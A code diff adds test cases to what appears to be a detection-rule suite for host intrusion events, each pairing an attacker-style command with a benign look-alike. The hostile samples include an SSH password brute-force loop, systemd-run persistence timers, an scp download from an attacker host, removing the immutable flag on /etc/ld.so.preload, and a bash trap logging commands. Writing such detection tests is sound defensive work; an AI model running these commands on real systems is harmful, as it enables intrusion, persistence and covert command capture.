@@ -550,6 +550,30 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         run("/bin/sh -c 'for p in $(cat list); do sshpass -p $p ssh root@10.0.0.5; done'"),
         run("/bin/sh -c 'sshpass -e ssh deploy@10.0.0.5 uptime'"),
     ),
+    "foothold.transient-service": (
+        run("systemd-run --unit=x --wait /bin/bash -c id"),
+        run("systemd-run --scope -p MemoryMax=1G mount -t nfs a:/b /mnt"),
+    ),
+    "persistence.transient-timer": (
+        run("systemd-run --unit=x --on-calendar *:0/1 /bin/sh -c id"),
+        run("systemd-run --unit=x --wait /bin/sh -c id"),
+    ),
+    "objectives.remote-file-transfer": (
+        run("scp attacker@198.51.100.4:/srv/tool /tmp/tool"),
+        run("scp /tmp/a /tmp/b"),
+    ),
+    "objectives.sensitive-files-archived": (
+        run("zip /root/data.zip /var/log/wtmp /var/log/btmp"),
+        run("tar czf /backup/etc.tgz /etc"),
+    ),
+    "objectives.service-process-killed": (
+        run("pkill -SIGTERM ^cron$"),
+        run("pkill -HUP rsyslogd"),
+    ),
+    "foothold.immutable-attribute-changed": (
+        run("chattr -i /etc/ld.so.preload"),
+        run("lsattr /etc/ld.so.preload"),
+    ),
     "persistence.shell-trap": (
         run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
         run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
